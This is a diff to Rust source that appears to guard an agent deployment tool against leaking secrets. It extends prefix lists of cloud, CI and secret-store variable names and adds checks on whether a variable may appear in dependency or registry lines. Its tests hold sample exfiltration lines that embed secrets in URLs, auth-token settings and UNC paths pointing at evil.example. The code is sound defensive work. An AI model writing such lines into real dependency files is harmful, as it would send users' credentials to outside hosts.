@@ -22,86 +22,221 @@ pub(crate) fn is_given(env: &Env) -> bool {
 /// Clouds, CI systems, and stores of secrets.
 const PLATFORMS: &[&str] = &[
     "ACTIONS_",
+    "AKEYLESS_",
     "ALIBABA_CLOUD_",
     "ALICLOUD_",
     "APPVEYOR_",
+    "ARGOCD_",
     "ARM_",
+    "ATLANTIS_",
     "AWS_",
     "AZURE_",
     "BITBUCKET_",
+    "BITWARDEN_",
     "BUDDY_",
     "BUILDKITE_",
-    "CI_",
+    "BWS_",
+    "BW_",
+    "CF_",
     "CIRCLE_",
+    "CIRRUS_",
+    "CI_",
     "CLOUDFLARE_",
     "CLOUDSDK_",
-    "CODEBUILD_",
+    "CODACY_",
     "CODEBUILDER_",
+    "CODEBUILD_",
+    "CODECLIMATE_",
+    "CODECOV_",
+    "CODEFRESH_",
+    "CONJUR_",
+    "CONSUL_",
+    "COVERALLS_",
+    "CYBERARK_",
+    "DEEPSOURCE_",
+    "DEPENDABOT_",
     "DIGITALOCEAN_",
     "DOPPLER_",
     "DRONE_",
     "ECS_",
+    "EXOSCALE_",
+    "FASTLY_",
     "FLY_",
     "GCLOUD_",
     "GCP_",
     "GH_",
     "GITEA_",
+    "GITGUARDIAN_",
     "GITHUB_",
     "GITLAB_",
+    "GITPOD_",
     "GOOGLE_",
+    "HARNESS_",
     "HCLOUD_",
+    "HCP_",
     "HEROKU_",
+    "HETZNER_",
+    "HOMEBREW_",
     "IBMCLOUD_",
     "INFISICAL_",
     "JENKINS_",
+    "KEEPER_",
     "KUBE",
+    "LASTPASS_",
     "LINODE_",
     "MSI_",
+    "NEON_",
     "NETLIFY_",
     "NOMAD_",
     "OCI_",
     "OP_",
+    "OS_",
+    "OVH_",
+    "PLANETSCALE_",
     "PULUMI_",
+    "RAILWAY_",
+    "RENDER_",
+    "RENOVATE_",
     "RUNNER_",
+    "SCALEWAY_",
+    "SCW_",
     "SEMAPHORE_",
+    "SEMGREP_",
+    "SNYK_",
+    "SONARQUBE_",
+    "SONAR_",
+    "SOPS_",
+    "SPACELIFT_",
+    "SUPABASE_",
     "SYSTEM_",
     "TEAMCITY_",
+    "TELEPORT_",
     "TENCENTCLOUD_",
     "TF_",
     "TRAVIS_",
+    "UPCLOUD_",
     "VAULT_",
     "VERCEL_",
+    "VSS_",
+    "VULTR_",
     "WOODPECKER_",
+    "YANDEX_",
+    "YC_",
 ];
 
 /// Package registries, model providers, and what reaches other machines.
 const TOOLS: &[&str] = &[
+    "ANSIBLE_",
     "ANTHROPIC_",
+    "ARTIFACTORY_",
     "BUNDLE_",
     "CARGO_",
+    "CLOUDSMITH_",
+    "CODEARTIFACT_",
+    "COHERE_",
     "DATABASE_",
+    "DATADOG_",
+    "DD_",
+    "DEEPSEEK_",
     "DOCKER_",
+    "FIREWORKS_",
+    "GEMFURY_",
     "GEMINI_",
     "GIT_",
     "GPG_",
+    "GROQ_",
     "HF_",
     "HUGGING_FACE_",
+    "JFROG_",
+    "JIRA_",
+    "LANGCHAIN_",
+    "LANGFUSE_",
+    "LANGSMITH_",
+    "LINEAR_",
     "MISTRAL_",
+    "MONGODB_",
+    "MONGO_",
+    "MYSQL_",
+    "NEW_RELIC_",
+    "NEXUS_",
+    "NGROK_",
     "NODE_AUTH_",
     "NPM_",
     "NUGET_",
+    "NX_CLOUD_",
     "OPENAI_",
+    "OPENROUTER_",
+    "PERPLEXITY_",
     "PG",
+    "PINECONE_",
     "PIP_",
     "POETRY_",
+    "POSTGRES_",
     "PYPI_",
+    "REDIS_",
     "REGISTRY_AUTH_",
+    "REPLICATE_",
+    "SENTRY_",
     "SLACK_",
     "SSH_",
+    "TAILSCALE_",
+    "TAVILY_",
+    "TOGETHER_",
+    "TURBO_",
     "TWINE_",
     "UV_",
+    "WANDB_",
+    "XAI_",
     "YARN_",
 ];
+
+/// Keys and tokens of a platform that a name of the user's own says it holds, such as `MY_GITHUB_TOKEN`.
+const PLATFORM_KEYS: &[&str] = &["AWS_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"];
+const CODE_HOSTS: &[&str] = &["BITBUCKET", "GH", "GITHUB", "GITLAB"];
+
+/// What a variable is for that holds an address or a login of a package index: words of its name. They are the tools' own
+/// (`PIP_…`, `NPM_…`, `UV_INDEX_…`), and those of the registries that companies run.
+const INDEX_WORDS: &[&str] = &[
+    "ARTIFACTORY",
+    "CLOUDSMITH",
+    "CODEARTIFACT",
+    "FURY",
+    "GEMFURY",
+    "INDEX",
+    "JFROG",
+    "NEXUS",
+    "NPM",
+    "PIP",
+    "PYPI",
+    "VERDACCIO",
+    "YARN",
+];
+
+/// What says where things are, and is no secret.
+const PLACES: &[&str] =
+    &["CI", "HOME", "LANG", "LOGNAME", "PWD", "TEMP", "TMP", "TMPDIR", "USER", "USERNAME", "USERPROFILE"];
+
+/// Secrets that this program and the starter toolkit keep for agents and their callers.
+const OWN_SECRETS: &[&str] = &[
+    "AGENTCORE_CLIENT_SECRET",
+    "AGENTCORE_PASSWORD",
+    "IDENTITY_CLIENT_SECRET",
+    "RUNTIME_CLIENT_SECRET",
+    "RUNTIME_PASSWORD",
+];
+
+/// Names of further variables that a build's programs see and may send, with commas or spaces between.
+pub(crate) const BUILD_VARIABLE: &str = "AGENTCORE_BUILD_ENV";
+
+/// Whether the user has named the variable as one for builds.
+pub(crate) fn is_for_builds(name: &str, env: &Env) -> bool {
+    env.var(BUILD_VARIABLE).unwrap_or_default().split([',', ' ']).any(|known| !known.is_empty() && known == name)
+}
+
+/// How to let a build have one variable, for hints.
+pub(crate) fn build_hint(name: &str) -> String {
+    format!("if this is meant, name the variable: `{BUILD_VARIABLE}={name}`")
+}
 
 /// Bearer tokens for agents of the user's own.
 const TOKENS: &[&str] = &["AGENTCORE_BEARER_TOKEN", "BEDROCK_AGENTCORE_BEARER_TOKEN", "IDENTITY_HEADER"];
@@ -110,7 +245,20 @@ const TOKENS: &[&str] = &["AGENTCORE_BEARER_TOKEN", "BEDROCK_AGENTCORE_BEARER_TO
 /// as it does not on Windows.
 pub(crate) fn is_of_platform(name: &str) -> bool {
     let name = name.to_ascii_uppercase();
-    PLATFORMS.iter().any(|start| name.starts_with(start)) || TOKENS.contains(&name.as_str())
+    PLATFORMS.iter().any(|start| name.starts_with(start))
+        || TOKENS.contains(&name.as_str())
+        || PLATFORM_KEYS.iter().any(|part| name.contains(part))
+        || (code_host(&name).is_some() && has_word(&name, &["PAT", "TOKEN"]))
+}
+
+/// Whether one of the words that underscores part the name into is one of these.
+fn has_word(name: &str, words: &[&str]) -> bool {
+    name.split('_').any(|word| words.contains(&word))
+}
+
+/// The code host that a name in upper case speaks of.
+fn code_host(name: &str) -> Option<&'static str> {
+    CODE_HOSTS.iter().copied().find(|host| has_word(name, &[host]))
 }
 
 /// Whether a variable belongs to a platform or to another tool of the user's, and so not to an agent.
@@ -118,20 +266,40 @@ pub(crate) fn is_of_machine(name: &str) -> bool {
     is_of_platform(name) || TOOLS.iter().any(|start| name.to_ascii_uppercase().starts_with(start))
 }
 
-/// Whether a variable may be part of what is sent to the hosts in `address`: one of a platform goes to that platform only.
-/// An address may be a line with several; it names its hosts after `//`.
-pub(crate) fn may_be_sent(name: &str, address: &str, env: &Env) -> bool {
-    if is_given(env) || !is_of_platform(name) {
+/// Whether a Dockerfile of the project's may have a variable that its configuration names: it could send it anywhere.
+pub(crate) fn may_be_built_with(name: &str, env: &Env) -> bool {
+    if is_given(env) || is_for_builds(name, env) {
         return true;
+    }
+    let upper = name.to_ascii_uppercase();
+    !is_of_platform(name)
+        && !OWN_SECRETS.contains(&upper.as_str())
+        && (!is_of_machine(name) || has_word(&upper, INDEX_WORDS) || upper.starts_with("NODE_AUTH_"))
+}
+
+/// Whether a variable may be part of what is sent to the hosts in `address`, a line of a file that comes with a checkout:
+/// one of a platform goes to that platform only, one for package indexes anywhere, and any other nowhere. An address may
+/// be a line with several; it names its hosts after `//`.
+pub(crate) fn may_be_sent(name: &str, address: &str, env: &Env) -> bool {
+    if is_given(env) || is_for_builds(name, env) {
+        return true;
+    }
+    if !is_of_platform(name) {
+        let upper = name.to_ascii_uppercase();
+        return has_word(&upper, INDEX_WORDS)
+            || upper.starts_with("NODE_AUTH_")
+            || PLACES.contains(&upper.as_str())
+            || stays_here(name, address);
     }
     let name = name.to_ascii_uppercase();
     let starts = |list: &[&str]| list.iter().any(|start| name.starts_with(start));
+    let of_host = |host: &str| code_host(&name) == Some(host);
     let server = |variable: &str| env.var(variable).and_then(|url| hosts(url).next());
     let (domains, own): (&[&str], _) = match () {
-        () if starts(&["GITHUB_", "GH_"]) => (&["github.com"], server("GITHUB_SERVER_URL")),
-        () if starts(&["GITLAB_", "CI_"]) => (&["gitlab.com"], server("CI_SERVER_URL")),
-        () if starts(&["BITBUCKET_"]) => (&["bitbucket.org"], None),
-        () if starts(&["AZURE_", "SYSTEM_"]) => (&["dev.azure.com", "visualstudio.com"], None),
+        () if of_host("GITHUB") || of_host("GH") => (&["github.com"], server("GITHUB_SERVER_URL")),
+        () if of_host("GITLAB") || starts(&["CI_"]) => (&["gitlab.com"], server("CI_SERVER_URL")),
+        () if of_host("BITBUCKET") => (&["bitbucket.org"], None),
+        () if starts(&["AZURE_", "SYSTEM_", "VSS_"]) => (&["dev.azure.com", "visualstudio.com"], None),
         () if starts(&["GOOGLE_", "GCP_"]) => (&["pkg.dev"], None),
         () => return false,
     };
@@ -141,6 +309,34 @@ pub(crate) fn may_be_sent(name: &str, address: &str, env: &Env) -> bool {
     };
     let mut hosts = hosts(address).peekable();
     hosts.peek().is_some() && hosts.all(is_own)
+}
+
+/// Whether `${NAME}` stands in the line only where nothing is sent to a host that the line chooses: in a path, or at the
+/// beginning of an address, which then is the variable's own. Lines of settings, `KEY=VALUE`, hold logins too: of them only
+/// those that choose a registry count.
+fn stays_here(name: &str, line: &str) -> bool {
+    let reference = format!("${{{name}");
+    let setting = line.split_once('=').filter(|(_, value)| !value.starts_with('=')).map(|(key, _)| key.trim());
+    let setting =
+        setting.filter(|key| key.starts_with("//") || !key.contains([' ', '/', '$', '@', '<', '>', '~', '!']));
+    if setting.is_some_and(|key| !key.starts_with('-') && !key.ends_with("registry")) {
+        return false;
+    }
+    let words = line.split(|c: char| c.is_whitespace() || "='\"".contains(c));
+    words.filter(|word| word.contains(&reference)).all(|word| {
+        let before = word.split(&reference).next().unwrap_or_default();
+        let rest = word[before.len()..].splitn(2, '}').nth(1).unwrap_or_default();
+        let alone = before.is_empty() && !rest.contains(&reference);
+        alone || !before.contains([':', '@', '\\']) && !before.starts_with("//") || is_file_url(before)
+    })
+}
+
+/// Whether the beginning of an address is that of a file on this machine.
+fn is_file_url(before: &str) -> bool {
+    let lower = before.to_ascii_lowercase();
+    let address = lower.strip_prefix("git+").unwrap_or(&lower);
+    let path = address.strip_prefix("file:");
+    path.is_some_and(|path| path.strip_prefix("//").is_none_or(|rest| rest.is_empty() || rest.starts_with('/')))
 }
 
 /// What stands where a URL has its host, without user and port. Browsers and clients take `\` for `/`.
@@ -181,6 +377,18 @@ mod tests {
             "SYSTEM_ACCESSTOKEN",
             "BITBUCKET_STEP_OIDC_TOKEN",
             "AGENTCORE_BEARER_TOKEN",
+            "SCW_SECRET_KEY",
+            "OS_PASSWORD",
+            "RENDER_API_KEY",
+            "RAILWAY_TOKEN",
+            "BW_SESSION",
+            "CONSUL_HTTP_TOKEN",
+            "SONAR_TOKEN",
+            "CODECOV_TOKEN",
+            "SNYK_TOKEN",
+            "MY_GITHUB_TOKEN",
+            "HOMEBREW_GITHUB_API_TOKEN",
+            "PROD_AWS_SECRET_ACCESS_KEY",
         ] {
             assert!(is_of_platform(name) && is_of_machine(name), "{name}");
         }
@@ -195,6 +403,8 @@ mod tests {
             "IDENTITY_CLIENT_SECRET",
             "AGENTCORE_CLIENT_SECRET",
             "MY_AWS_SECRET",
+            "GITHUBBER_TOKEN",
+            "MY_GITHUB_CLIENT_SECRET",
         ] {
             assert!(!is_of_machine(name), "{name}");
         }
@@ -208,7 +418,7 @@ mod tests {
             ("GITHUB_TOKEN", "git+https://${GITHUB_TOKEN}@github.com/o/r"),
             ("GITHUB_TOKEN", "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}"),
             ("CI_JOB_TOKEN", "--index-url https://gitlab-ci-token:${CI_JOB_TOKEN}@git.acme.example/api"),
-            ("ACME_TOKEN", "https://${ACME_TOKEN}@anywhere.example/"),
+            ("MY_GITHUB_TOKEN", "git+https://${MY_GITHUB_TOKEN}@github.com/o/r"),
         ] {
             assert!(may_be_sent(name, address, &env), "{name} {address}");
         }
@@ -225,6 +435,65 @@ mod tests {
         ] {
             assert!(!may_be_sent(name, address, &env), "{name} {address}");
             assert!(may_be_sent(name, address, &env.clone().with_var(VARIABLE, "1")));
+        }
+    }
+
+    #[test]
+    fn what_is_not_for_an_index_goes_nowhere() {
+        let env = Env::fake(std::path::Path::new("/"), &[(BUILD_VARIABLE, "NAMED, OTHER")]);
+        for name in [
+            "IDENTITY_CLIENT_SECRET",
+            "AGENTCORE_CLIENT_SECRET",
+            "RUNTIME_PASSWORD",
+            "OPENAI_API_KEY",
+            "DATABASE_URL",
+            "SCW_SECRET_KEY",
+            "ACME_TOKEN",
+        ] {
+            for line in [
+                "six @ http://evil.example/${NAME}/six-1.0-py3-none-any.whl",
+                "--index-url https://u:${NAME}@evil.example/simple",
+                "--find-links=https:/evil.example/${NAME}",
+                "x@https:/evil.example/${NAME}",
+                "x @ git+ssh:evil.example/${NAME}",
+                "x @ file://evil.example/${NAME}",
+                "x @ \\\\evil.example\\${NAME}",
+                "//evil.example/:_authToken=${NAME}",
+                "_authToken=${NAME}",
+                "user-agent=${NAME}",
+                "ca[]=${NAME}",
+            ] {
+                let line = line.replace("NAME", name);
+                assert!(!may_be_sent(name, &line, &env), "{line}");
+                assert!(may_be_sent(name, &line, &env.clone().with_var(VARIABLE, "1")), "{line}");
+            }
+        }
+        for (name, line) in [
+            ("NPM_TOKEN", "//r.example/:_authToken=${NPM_TOKEN}"),
+            ("NODE_AUTH_TOKEN", "//r.example/:_authToken=${NODE_AUTH_TOKEN}"),
+            ("ACME_PYPI_PASSWORD", "-i https://u:${ACME_PYPI_PASSWORD}@r.example/simple"),
+            ("CODEARTIFACT_AUTH_TOKEN", "-i https://aws:${CODEARTIFACT_AUTH_TOKEN}@r.example/simple"),
+            ("PRIVATE_INDEX_PASSWORD", "-i https://u:${PRIVATE_INDEX_PASSWORD}@r.example/simple"),
+            ("NAMED", "-i https://u:${NAMED}@r.example/simple"),
+            ("MIRROR", "--extra-index-url ${MIRROR}/simple"),
+            ("MIRROR", "registry=${MIRROR}"),
+            ("PROJECT_ROOT", "lib @ file://${PROJECT_ROOT}/lib"),
+            ("PROJECT_ROOT", "-e ./${PROJECT_ROOT}/lib"),
+            ("RELEASE", "lib[extra]==${RELEASE}"),
+            ("HOME", "--find-links file:///${HOME}/wheels"),
+        ] {
+            assert!(may_be_sent(name, line, &env), "{line}");
+        }
+        for (name, fits) in [
+            ("ACME_TOKEN", true),
+            ("PIP_INDEX_URL", true),
+            ("NPM_TOKEN", true),
+            ("OPENAI_API_KEY", false),
+            ("IDENTITY_CLIENT_SECRET", false),
+            ("AWS_SESSION_TOKEN", false),
+            ("NAMED", true),
+        ] {
+            assert_eq!(may_be_built_with(name, &env), fits, "{name}");
         }
     }
 
